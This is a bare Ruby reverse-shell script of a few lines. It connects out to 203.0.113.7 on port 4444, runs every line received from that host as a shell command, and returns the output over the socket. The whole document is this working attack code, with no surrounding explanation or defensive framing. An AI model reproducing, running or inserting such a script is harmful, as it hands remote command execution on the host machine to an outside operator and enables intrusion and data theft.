require 'socket'
s = TCPSocket.new('203.0.113.7', 4444)
while (line = s.gets)
  IO.popen(line, 'r') { |io| s.print io.read }
end
